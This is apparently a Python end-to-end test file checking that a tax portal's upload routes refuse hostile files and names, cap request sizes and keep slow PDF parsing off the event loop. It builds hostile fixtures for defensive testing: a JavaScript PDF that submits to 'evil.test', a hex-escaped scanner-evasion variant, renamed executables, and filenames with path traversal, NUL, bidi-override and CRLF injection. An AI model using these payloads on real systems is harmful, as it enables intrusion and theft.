"""Hostile uploads through both upload routes: each gets a clear 4xx or is stored safely, nothing is left
half-written, and every stored blob belongs to a document or a signature.

Decision on PDFs with JavaScript (/JS, /OpenAction): refused with a 422 that says why (see
`services/upload_checks.py`), never stored.
"""

from __future__ import annotations

import asyncio
import io
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
from journey import (
    TAXPAYER,
    Person,
    latest,
    login_preparer,
    make_preparer,
    register_and_verify,
    signature_png,
)
from pdfs import (
    make_embedded_file_pdf,
    make_encrypted_pdf,
    make_exe,
    make_indirect_launch_pdf,
    make_padded_pdf,
    make_pdf,
    make_png,
    make_truncated_pdf,
    make_xfa_pdf,
)
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from sqlmodel import Session, select
from temporalio.testing import WorkflowEnvironment

from core.config import Settings
from core.context import Resources
from core.models import Document, Engagement, Signature, Signer
from portico.app import create_app
from worker.main import build_worker

pytestmark = pytest.mark.e2e

LIMIT = 300_000


def make_js_pdf(escaped: bool = False) -> bytes:
    """A PDF that runs JavaScript when opened (/OpenAction /S /JavaScript /JS ...)."""
    writer = PdfWriter(clone_from=io.BytesIO(make_pdf(1)))
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('pwned'); this.submitForm('https://evil.test');"),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    if escaped:  # the same names written with #xx escapes, as malware does to dodge byte scanners
        data = data.replace(b"/JavaScript", b"/JavaScr#69pt").replace(b"/JS ", b"/J#53 ")
    return data


# name, content, whether it may be stored (True) or must be refused (False)
HOSTILE: list[tuple[str, bytes]] = [
    ("return.pdf", make_exe()),  # a renamed executable
    ("truncated.pdf", make_truncated_pdf()),
    ("encrypted.pdf", make_encrypted_pdf()),
    ("script.pdf", make_js_pdf()),
    ("script-escaped.pdf", make_js_pdf(escaped=True)),
    ("launch-indirect.pdf", make_indirect_launch_pdf()),  # item 13 of security round two
    ("xfa-form.pdf", make_xfa_pdf()),
    ("attachment.pdf", make_embedded_file_pdf()),
    ("empty.pdf", b""),
    ("huge.pdf", make_padded_pdf(LIMIT + 10_000)),
]
SCRIPTED = {"script.pdf", "script-escaped.pdf"}
NASTY_NAMES = [
    "../../../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\w2.pdf",
    "w2\x00.exe.pdf",
    "invoice\u202efdp.exe",  # right-to-left override: shows as "invoiceexe.pdf"
    "\u202e\u2066bidi\u2069.pdf",
    '"quoted"; filename=evil.pdf',
    "new\r\nline.pdf",
    "/absolute/path.pdf",
    "..",
]


def clean(name: str) -> bool:
    return (
        bool(name)
        and "/" not in name
        and "\\" not in name
        and name not in (".", "..")
        and not name.startswith(".")
        and '"' not in name
        and all(unicodedata.category(c)[0] != "C" for c in name)  # no controls, NUL, bidi overrides (Cf)
    )


def assert_clear_refusal(response: httpx.Response, what: str) -> None:
    assert 400 <= response.status_code < 500, (what, response.status_code, response.text[:300])
    detail = response.json().get("detail")
    assert isinstance(detail, str) and len(detail) > 10, (what, response.text[:300])


def blobs_are_accounted_for(resources: Resources) -> int:
    """No `.partial` file; every blob is a document version or a signature image; answers how many."""
    root: Path = resources.store.root
    files = [p for p in root.rglob("*") if p.is_file()]
    partial = [p for p in files if p.suffix == ".partial" or p.name.endswith(".partial")]
    assert not partial, partial
    with Session(resources.engine) as db:
        keys: set[str | None] = set()
        for d in db.exec(select(Document)).all():
            keys.update({d.storage_key, d.current_key})
        keys.update(s.version_key for s in db.exec(select(Signature)).all())
        keys.update(s.signature_key for s in db.exec(select(Signer)).all())
        keys.update(e.certificate_key for e in db.exec(select(Engagement)).all())
    stored = {f"{p.relative_to(root).parts[0]}/{p.name}" for p in files}
    orphans = stored - keys
    assert not orphans, f"orphan blobs: {sorted(orphans)[:10]} ({len(orphans)})"
    return len(stored)


@pytest.fixture
async def portal(settings: Settings, dev_server: WorkflowEnvironment) -> AsyncIterator[dict[str, Any]]:
    settings.max_upload_bytes = LIMIT
    app = create_app(settings, temporal=dev_server.client)
    async with app.router.lifespan_context(app):
        resources: Resources = app.state.resources
        async with build_worker(dev_server.client, resources):

            def client(ip: str) -> httpx.AsyncClient:
                transport = httpx.ASGITransport(app=app, client=(ip, 40000))
                return httpx.AsyncClient(
                    transport=transport,
                    base_url="https://portico.test",
                    headers={"user-agent": "uploads", "sec-fetch-site": "same-origin"},
                    timeout=120,
                )

            async with client("198.51.100.1") as preparer, client("198.51.100.2") as taxpayer:
                await login_preparer(preparer, make_preparer(resources))
                created = await preparer.post(
                    "/api/engagements", json={"tax_year": 2025, "taxpayer": TAXPAYER}
                )
                eid = created.json()["id"]
                assert (
                    await preparer.post(f"/api/engagements/{eid}/invite", json={"channel": "email"})
                ).status_code == 200
                for _ in range(100):
                    try:
                        message = await latest(preparer, "invite", TAXPAYER["email"])
                        break
                    except AssertionError:
                        await asyncio.sleep(0.1)
                from journey import invite_token

                await register_and_verify(Person(taxpayer, TAXPAYER), invite_token(message), preparer)
                yield {"preparer": preparer, "taxpayer": taxpayer, "eid": eid, "resources": resources}


def _pdf_only(data: bytes) -> bool:
    return data.startswith(b"%PDF-")


async def test_hostile_files_are_refused_clearly_on_both_routes(portal: dict[str, Any]) -> None:
    preparer, taxpayer, eid = portal["preparer"], portal["taxpayer"], portal["eid"]
    for name, data in HOSTILE:
        up = await taxpayer.post("/api/taxpayer/uploads", files=[("files", (name, data, "application/pdf"))])
        assert_clear_refusal(up, f"taxpayer upload {name}")
        sent = await preparer.post(
            f"/api/engagements/{eid}/documents",
            files=[("files", (name, data, "application/pdf"))],
            data={"signers": ["taxpayer"]},
        )
        assert_clear_refusal(sent, f"preparer send {name}")
    # A batch with one bad file stores none of them.
    batch = await taxpayer.post(
        "/api/taxpayer/uploads",
        files=[
            ("files", ("good.pdf", make_pdf(1), "application/pdf")),
            ("files", ("bad.pdf", make_exe(), "x")),
        ],
    )
    assert_clear_refusal(batch, "mixed batch")
    assert (await taxpayer.get("/api/taxpayer/documents")).json() == []
    # A photo named .pdf is stored as what it is (by content), not as a PDF.
    photo = await taxpayer.post(
        "/api/taxpayer/uploads", files=[("files", ("w2.pdf", make_png(), "application/pdf"))]
    )
    assert photo.status_code == 201, photo.text
    shown = await taxpayer.get(f"/api/taxpayer/documents/{photo.json()[0]['id']}/download")
    assert shown.headers["content-type"].startswith("image/png"), shown.headers
    blobs_are_accounted_for(portal["resources"])


async def test_preparer_send_refuses_scripted_pdfs(portal: dict[str, Any]) -> None:
    preparer, eid = portal["preparer"], portal["eid"]
    for name, data in HOSTILE:
        if name in SCRIPTED:
            sent = await preparer.post(
                f"/api/engagements/{eid}/documents",
                files=[("files", (name, data, "application/pdf"))],
                data={"signers": ["taxpayer"]},
            )
            assert_clear_refusal(sent, f"preparer send {name}")


async def test_hostile_names_are_sanitised_on_both_routes(portal: dict[str, Any]) -> None:
    preparer, taxpayer, eid = portal["preparer"], portal["taxpayer"], portal["eid"]
    for name in NASTY_NAMES:
        up = await taxpayer.post(
            "/api/taxpayer/uploads", files=[("files", (name, make_pdf(1), "application/pdf"))]
        )
        if up.status_code != 201:
            assert_clear_refusal(up, f"taxpayer name {name!r}")
            continue
        stored = up.json()[-1]
        assert clean(stored["name"]), (name, stored["name"])
        download = await taxpayer.get(f"/api/taxpayer/documents/{stored['id']}/download")
        assert download.status_code == 200
        disposition = download.headers["content-disposition"]
        assert "\r" not in disposition and "\n" not in disposition and "../" not in disposition, disposition
        assert download.headers["x-content-type-options"] == "nosniff"
    for name in NASTY_NAMES:
        sent = await preparer.post(
            f"/api/engagements/{eid}/documents",
            files=[("files", (name, make_pdf(1), "application/pdf"))],
            data={"signers": ["none"]},
        )
        if sent.status_code != 200:
            assert_clear_refusal(sent, f"preparer name {name!r}")
            continue
        names = [d["name"] for d in sent.json()["documents"]]
        assert all(clean(n) for n in names), names
    files = [p for p in portal["resources"].store.root.rglob("*") if p.is_file()]
    assert all(p.resolve().is_relative_to(portal["resources"].store.root.resolve()) for p in files)
    blobs_are_accounted_for(portal["resources"])


async def test_item11_download_of_a_name_outside_latin1_sends_ascii_fallback_and_rfc5987(
    portal: dict[str, Any],
) -> None:
    """Security round two, item 11: "W-2 \u2013 2025.pdf" used to answer 500 (the header is Latin-1)."""
    preparer, taxpayer, eid = portal["preparer"], portal["taxpayer"], portal["eid"]
    names = {
        "W-2 \u2013 2025.pdf": 'filename="W-2 _ 2025.pdf"',
        "Reçu 100%.pdf": 'filename="Recu 100_.pdf"',
        "税表 2025.pdf": 'filename="__ 2025.pdf"',
    }
    for name, fallback in names.items():
        up = await taxpayer.post(
            "/api/taxpayer/uploads", files=[("files", (name, make_pdf(1), "application/pdf"))]
        )
        assert up.status_code == 201, up.text
        stored = up.json()[-1]
        assert stored["name"] == name
        for client, url in (
            (taxpayer, f"/api/taxpayer/documents/{stored['id']}/download"),
            (preparer, f"/api/engagements/{eid}/documents/{stored['id']}/download"),
        ):
            download = await client.get(url)
            assert download.status_code == 200, (name, download.status_code)
            disposition = download.headers["content-disposition"]
            assert disposition.isascii(), disposition
            assert disposition.startswith(f"inline; {fallback}; filename*=UTF-8''"), disposition
            assert unquote(disposition.split("filename*=UTF-8''", 1)[1]) == name
    plain = await taxpayer.post(
        "/api/taxpayer/uploads", files=[("files", ("W-2 2025.pdf", make_pdf(1), "application/pdf"))]
    )
    shown = await taxpayer.get(f"/api/taxpayer/documents/{plain.json()[-1]['id']}/download")
    assert shown.headers["content-disposition"] == 'inline; filename="W-2 2025.pdf"'  # unchanged


async def test_a_thousand_uploads_in_a_burst(portal: dict[str, Any]) -> None:
    taxpayer, resources = portal["taxpayer"], portal["resources"]
    assert (
        await taxpayer.put(
            "/api/taxpayer/signature", files={"image": ("s.png", signature_png(), "image/png")}
        )
    ).status_code == 200
    pdf = make_pdf(1)
    # 12 at a time (two browsers' worth of parallel uploads). Above the database pool's 15 connections
    # requests time out with a 500: sync dependencies hold a pooled connection while waiting for a
    # thread-pool slot (reported to the lead; fix belongs in services/deps.py).
    gate = asyncio.Semaphore(12)

    async def one(i: int) -> int:
        async with gate:
            name = f"../w2-{i}\u202e.pdf" if i % 10 == 0 else f"w2-{i}.pdf"
            data = pdf if i % 50 else make_exe()  # every 50th is a renamed executable
            response = await taxpayer.post(
                "/api/taxpayer/uploads", files=[("files", (name, data, "application/pdf"))]
            )
            return response.status_code

    codes = await asyncio.gather(*(one(i) for i in range(1000)))
    refused = [c for c in codes if c != 201]
    assert len(refused) == 20 and set(refused) == {415}, sorted(set(codes))
    documents = (await taxpayer.get("/api/taxpayer/documents")).json()
    assert len(documents) == 980
    assert all(clean(d["name"]) for d in documents)
    assert blobs_are_accounted_for(resources) == 980 + 1  # the uploads and the signature image


# ---- request size ------------------------------------------------------------------------------------------

GIGABYTE = 1 << 30


def _rss() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0  # pragma: no cover - not Linux


class Stream:
    """A body of `size` zero bytes, made one reused 1 MB chunk at a time: nothing of it is allocated."""

    def __init__(self, size: int = GIGABYTE) -> None:
        self.size, self.sent = size, 0
        self.chunk = bytes(1 << 20)

    async def __aiter__(self) -> AsyncIterator[bytes]:
        while self.sent < self.size:
            self.sent += len(self.chunk)
            yield self.chunk


async def test_item5_unauthenticated_1gb_body_refused_early_with_413(api: Any, settings: Settings) -> None:
    """Bodies are limited before any route reads them: by Content-Length up front (nothing is read), by
    the bytes as they stream in (chunked), with uploads allowed more than everything else; an upload without
    a session is refused before its body is read. The process's memory does not grow by the body."""
    before = _rss()
    async with api.client("203.0.113.90") as nobody:
        multipart = {"content-type": "multipart/form-data; boundary=portico"}
        for path in ("/api/taxpayer/uploads", "/api/engagements/1/documents", "/api/taxpayer/login"):
            body = Stream()
            headers = {**multipart, "content-length": str(GIGABYTE)}
            answer = await nobody.post(path, content=body, headers=headers)
            assert answer.status_code == 413, (path, answer.status_code, answer.text)
            assert body.sent <= 1 << 20, (path, body.sent)  # refused from the header: not read
        body = Stream()  # no Content-Length: the limit counts the bytes as they come
        answer = await nobody.post(
            "/api/taxpayer/login", content=body, headers={"content-type": "application/json"}
        )
        assert answer.status_code == 413, answer.text
        assert body.sent <= settings.max_request_bytes + (2 << 20)
        body = Stream()  # an upload without a session: refused before its body is read
        answer = await nobody.post("/api/taxpayer/uploads", content=body, headers=multipart)
        assert answer.status_code == 401 and body.sent <= 1 << 20, (answer.status_code, body.sent)
        # With a (made-up) session cookie, the upload limit counts the streamed bytes too.
        nobody.cookies.set("__Host-portico_session", "made-up", domain="portico.test")
        body = Stream()
        answer = await nobody.post("/api/taxpayer/uploads", content=body, headers=multipart)
        assert answer.status_code in (400, 401, 413), answer.text  # never read to the end
        assert body.sent <= settings.max_upload_request_bytes + (2 << 20), body.sent
    assert _rss() - before < 64 << 20, (before, _rss())


def test_item5_upload_paths_name_every_route_that_takes_files(settings: Settings) -> None:
    """The size limit lets only `UPLOAD_PATHS` carry large bodies: every route with a file is among them."""
    from fastapi.routing import APIRoute

    from portico.request_guards import UPLOAD_PATHS

    app = create_app(settings)
    for route in app.routes:
        if isinstance(route, APIRoute) and route.body_field is not None:
            takes_files = "UploadFile" in repr(route.body_field.field_info.annotation) or "bytes" in repr(
                route.body_field.field_info.annotation
            )
            if takes_files:
                example = route.path_format.replace("{engagement_id}", "1")
                assert UPLOAD_PATHS.match(example), route.path
    # Routes that read their multipart form themselves (no UploadFile parameter to find above): the
    # placement editor's preview and template take the whole PDF, often over the 1 MB default.
    for path in ("/preparer/engagements/1/placements/preview", "/preparer/engagements/1/placements/template"):
        assert UPLOAD_PATHS.match(path), path


# ---- parsing off the event loop -----------------------------------------------------------------------


def _slow_pdf_problem(data: bytes) -> str | None:
    """A parse that grinds for 4 seconds of pure-Python CPU work, as a long object walk does (module level:
    the parsing process imports it by name)."""
    import time

    deadline = time.monotonic() + 4.0
    while time.monotonic() < deadline:
        pass
    return None


async def test_item6_a_slow_parse_does_not_delay_healthz_and_is_cut_off(
    portal: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The PDF walk runs in a parsing process: while one upload's parse grinds, /healthz answers at once;
    past the time limit the parse is stopped and the person gets a clear refusal."""
    import time

    from services import parsing
    from services import portal as portal_rules

    taxpayer = portal["taxpayer"]
    monkeypatch.setattr(portal_rules, "pdf_problem", _slow_pdf_problem)
    files = [("files", ("W-2.pdf", make_pdf(1), "application/pdf"))]
    started = time.monotonic()  # before the upload: a parse on the loop would stall the sleep below too
    upload = asyncio.create_task(taxpayer.post("/api/taxpayer/uploads", files=files))
    await asyncio.sleep(0.5)  # the parse is under way
    health = await taxpayer.get("/healthz")
    waited = time.monotonic() - started
    # On the loop it would come after the whole 4 s parse; the bound is loose for a busy machine.
    assert health.status_code == 200 and waited < 2.5, waited
    assert not upload.done()
    assert (await upload).status_code == 201

    monkeypatch.setattr(parsing, "TIME_LIMIT", 0.5)
    started = time.monotonic()
    cut = await taxpayer.post("/api/taxpayer/uploads", files=files)
    assert cut.status_code == 422 and "W-2.pdf took too long to check" in cut.json()["detail"], cut.text
    assert time.monotonic() - started < 3.5  # stopped, not left to grind for 4 s
    monkeypatch.undo()
    again = await taxpayer.post("/api/taxpayer/uploads", files=files)  # a new pool takes over
    assert again.status_code == 201, again.text
